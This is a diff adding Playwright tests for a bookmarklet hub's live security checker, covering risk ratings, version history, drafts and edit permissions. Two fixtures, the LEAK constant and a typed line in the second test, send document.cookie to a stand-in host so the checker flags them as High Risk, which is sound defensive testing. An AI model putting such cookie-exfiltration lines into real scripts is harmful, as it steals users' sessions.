@@ -1,0 +1,238 @@
+import { expect, type Page, test } from "@playwright/test";
+import { expectNoViolations } from "../support/axe.ts";
+import { hubOrigin, signIn, watchForErrors } from "../support/hub.ts";
+
+const LEAK = `const words = document.title.split(" ");
+const session = document.cookie;
+fetch("https://collector.example/in", { method: "POST", body: session });
+alert(words.length + " words");
+`;
+const HARMLESS = `const words = document.title.split(" ");
+alert(words.length + " words");
+`;
+
+const code = (page: Page) => page.getByRole("textbox", { name: "Bookmarklet Code" });
+/** What stands in the gutter: the words of each mark. */
+const marks = (page: Page) => page.locator("[data-code-editor] [data-finding]:not([aria-label=''])");
+const check = (page: Page) => page.getByRole("region", { name: "Security check of what you are typing" });
+
+/** Puts text into the editor as somebody pastes it. */
+async function write(page: Page, text: string): Promise<void> {
+	await code(page).click();
+	await page.keyboard.press("Control+a");
+	await page.keyboard.insertText(text);
+}
+
+async function describe(page: Page, title: string): Promise<void> {
+	await page.getByLabel("Title").fill(title);
+	await page.getByLabel("Description").fill("Counts the words of the title of a page.");
+	await page.getByLabel("Category").selectOption("productivity");
+	await page.getByLabel("Tags").fill("Words, count");
+}
+
+/** Level and number of every version of a script, as the database has them. */
+async function storedRatings(page: Page, scriptId: string): Promise<Record<string, string>> {
+	const settings = await page.evaluate(() => document.getElementById("hub-settings")?.textContent ?? "{}");
+	const { publishableKey } = JSON.parse(settings) as { publishableKey: string };
+	const answer = await page.request.get(`${hubOrigin()}/rest/v1/versions`, {
+		params: { select: "semver,risk_level", bookmarklet_id: `eq.${scriptId}` },
+		headers: { apikey: publishableKey },
+	});
+	const rows = (await answer.json()) as { semver: string; risk_level: string }[];
+	return Object.fromEntries(rows.map(({ semver, risk_level }) => [semver, risk_level]));
+}
+
+/** The code of the draft of a new script, as this browser keeps it. */
+function keptCode(page: Page): Promise<unknown> {
+	return page.evaluate(
+		() =>
+			new Promise((resolve) => {
+				const opening = indexedDB.open("scriptorium-drafts");
+				opening.onsuccess = () => {
+					const database = opening.result;
+					const reading = database.transaction("scripts").objectStore("scripts").get("new");
+					reading.onsuccess = () => {
+						database.close();
+						resolve(reading.result?.values.code);
+					};
+				};
+			}),
+	);
+}
+
+test("a script that leaks a cookie is High Risk with the line; fixed it is Low, and the old version stays High", async ({
+	page,
+}) => {
+	const errors = watchForErrors(page);
+	await signIn(page, "Arthur Author");
+	await page.goto(`${hubOrigin()}/create`);
+	await describe(page, "Title word count");
+	await write(page, LEAK);
+	// The hub's answer waits until the page has been seen without it.
+	let letAnswer: () => void = () => undefined;
+	const seen = new Promise<void>((resolve) => {
+		letAnswer = resolve;
+	});
+	await page.route("**/functions/v1/analyze-security", async (route) => {
+		await seen;
+		await route.continue();
+	});
+	await page.route("**/rest/v1/security_reports*", async (route) => {
+		await seen;
+		await route.continue();
+	});
+	await page.getByRole("button", { name: "Create Bookmarklet" }).click();
+	await expect(page.getByText("Bookmarklet created")).toBeVisible();
+	await page.waitForURL(/\/bookmarklet\/[0-9a-f-]{36}$/);
+	const scriptId = new URL(page.url()).pathname.split("/").at(-1) ?? "";
+	letAnswer();
+
+	const security = page.getByRole("region", { name: "Security Analysis" });
+	await expect(security.getByText("High Risk")).toBeVisible();
+	await security.getByRole("link", { name: "line 3" }).first().click();
+	await expect(page).toHaveURL(/#L3$/);
+
+	await page.getByRole("link", { name: "Edit" }).click();
+	await expect(page.getByRole("heading", { level: 1, name: "Edit Your Script" })).toBeVisible();
+	await expect(page.getByLabel("Title")).toHaveValue("Title word count");
+	await expect(page.getByLabel("Tags")).toHaveValue(/words/);
+	await expect(marks(page).first()).toHaveAttribute("aria-label", /^Line 3: /);
+	await write(page, HARMLESS);
+	await expect(marks(page)).toHaveCount(0);
+	await page.getByRole("button", { name: "Update Bookmarklet" }).click();
+	await expect(page.getByText("Bookmarklet updated")).toBeVisible();
+	await expect(security.getByText("Low Risk")).toBeVisible();
+
+	await page.getByRole("button", { name: "View version history" }).click();
+	const versions = page.getByRole("dialog").getByRole("listitem");
+	await expect(versions).toHaveCount(2);
+	await expect(versions.filter({ hasText: "1.1.0" })).toContainText("Low Risk");
+	await expect(versions.filter({ hasText: "1.0.0" })).toContainText("High Risk");
+	expect(await storedRatings(page, scriptId)).toEqual({ "1.0.0": "red", "1.1.0": "green" });
+	expect(errors).toEqual([]);
+});
+
+test("marks come while typing, without a press; a syntax error is 'Not rated' and why, never Low", async ({ page }) => {
+	const errors = watchForErrors(page);
+	const asked: string[] = [];
+	page.on("request", (request) => {
+		if (/\/functions\/v1\//.test(request.url())) asked.push(request.url());
+	});
+	await page.goto(`${hubOrigin()}/create`);
+	await code(page).click();
+	await code(page).pressSequentially('fetch("https://collector.example/?" + document.cookie);');
+	await expect(marks(page)).toHaveCount(1);
+	await expect(marks(page)).toHaveAttribute("aria-label", /^Line 1: (Critical|High): \S/);
+	await expect(check(page)).toContainText("High Risk");
+	await expectNoViolations(page, "the editor with a mark");
+
+	await page.getByRole("tab", { name: "Security" }).click();
+	const panel = page.getByRole("region", { name: "Security check", exact: true });
+	await expect(panel).toContainText(/Score \d+ out of 100/);
+	await expectNoViolations(page, "the security tab with a finding");
+	await panel.getByRole("button", { name: "Go to line 1 in the editor" }).click();
+	await expect(code(page)).toBeFocused();
+
+	await page.keyboard.press("Control+End");
+	await code(page).pressSequentially("\nlet = (");
+	await expect(check(page)).toContainText("Not rated");
+	await expect(check(page)).toContainText(/Line 2/);
+	await expect(check(page)).not.toContainText("Low Risk");
+	await page.getByRole("tab", { name: "Security" }).click();
+	await expect(panel).toContainText("Not rated");
+	await expect(panel).toContainText(/Line 2/);
+	await expect(panel).not.toContainText(/Score|Low Risk/);
+	// What is not saved is nobody's business: the hub is not asked.
+	expect(asked).toEqual([]);
+	expect(errors).toEqual([]);
+});
+
+test("a check that hangs, breaks down or does not arrive is 'Not rated', and writing goes on", async ({ page }) => {
+	const workers = {
+		hangs: "postMessage({ ready: true }); addEventListener('message', () => { for (;;); });",
+		breaks: "postMessage({ ready: true }); addEventListener('message', () => { throw new Error('boom'); });",
+		missing: null,
+	} as const;
+	const said = {
+		hangs: /took longer than 3 seconds/,
+		breaks: /broke down/,
+		missing: /could not be started/,
+	} as const;
+	for (const kind of ["hangs", "breaks", "missing"] as const) {
+		const body = workers[kind];
+		await page.route(/analysis-worker/, (route) =>
+			body === null ? route.fulfill({ status: 404 }) : route.fulfill({ contentType: "text/javascript", body }),
+		);
+		await page.goto(`${hubOrigin()}/create`);
+		await code(page).click();
+		await code(page).pressSequentially("alert(1)");
+		await expect(check(page)).toContainText("Not rated");
+		await expect(check(page)).toContainText(said[kind]);
+		await page.unroute(/analysis-worker/);
+		await code(page).pressSequentially(";");
+		await expect(check(page)).toContainText("Low Risk");
+	}
+});
+
+test("what was typed survives a reload as a draft, and a sign-in that comes before the save", async ({ page }) => {
+	await page.goto(`${hubOrigin()}/create`);
+	await describe(page, "Words before sign-in");
+	await write(page, HARMLESS);
+	await expect.poll(() => keptCode(page)).toBe(HARMLESS);
+	await page.getByRole("button", { name: "Create Bookmarklet" }).click();
+	const prompt = page.getByRole("dialog", { name: "Sign in required" });
+	await expect(prompt).toContainText("You need to be signed in to create and save bookmarklets.");
+	await expectNoViolations(page, "the sign-in prompt");
+	await page.keyboard.press("Escape");
+
+	await page.reload();
+	await page.getByRole("button", { name: "Restore draft" }).click();
+	await expect(page.getByLabel("Title")).toHaveValue("Words before sign-in");
+	await expect(code(page)).toContainText("alert(words.length");
+
+	await page.getByRole("button", { name: "Create Bookmarklet" }).click();
+	await prompt.getByRole("button", { name: "Sign in" }).click();
+	await page.waitForURL(/\/auth$/);
+	await page.getByRole("button", { name: /google/i }).click();
+	await page.getByRole("button", { name: /Arthur Author/ }).click();
+	await expect(page.getByText("Bookmarklet created")).toBeVisible();
+	await expect(page.getByRole("heading", { level: 1, name: "Words before sign-in" })).toBeVisible();
+	// It is saved: nothing is left to restore.
+	await page.goto(`${hubOrigin()}/create`);
+	await expect(page.getByRole("heading", { level: 1, name: "Create a Userscript" })).toBeVisible();
+	await expect(page.getByLabel("Title")).toHaveValue("");
+	await expect(page.getByRole("button", { name: "Restore draft" })).toHaveCount(0);
+});
+
+test("only its owner can edit a script; two who save at once do not lose a line", async ({ page, browser }) => {
+	await signIn(page, "Arthur Author");
+	await page.goto(`${hubOrigin()}/create`);
+	await describe(page, "Saved from two windows");
+	await write(page, HARMLESS);
+	await page.getByRole("button", { name: "Create Bookmarklet" }).click();
+	await page.waitForURL(/\/bookmarklet\/[0-9a-f-]{36}$/);
+	const edit = `${page.url()}/edit`;
+
+	const second = await page.context().newPage();
+	await second.goto(edit);
+	await page.goto(edit);
+	await expect(second.getByLabel("Title")).toHaveValue("Saved from two windows");
+	await page.getByLabel("Title").fill("Saved from the first");
+	await page.getByRole("button", { name: "Update Bookmarklet" }).click();
+	await expect(page.getByText("Bookmarklet updated")).toBeVisible();
+
+	await second.getByLabel("Title").fill("Saved from the second");
+	await second.getByRole("button", { name: "Update Bookmarklet" }).click();
+	const alert = second.getByRole("alert").filter({ hasText: "Version 1.1.0 was saved elsewhere" });
+	await expect(alert).toContainText("What you have typed is still here.");
+	await expect(second.getByLabel("Title")).toHaveValue("Saved from the second");
+	await second.getByRole("button", { name: "Save on top of version 1.1.0" }).click();
+	await expect(second.getByRole("heading", { level: 1, name: "Saved from the second" })).toBeVisible();
+
+	const other = await browser.newPage();
+	await signIn(other, "Rita Reader");
+	await other.goto(edit);
+	await expect(other.getByRole("heading", { level: 1, name: "Only its owner can edit this script" })).toBeVisible();
+	await expectNoViolations(other, "somebody else's script");
+	await other.close();
+});
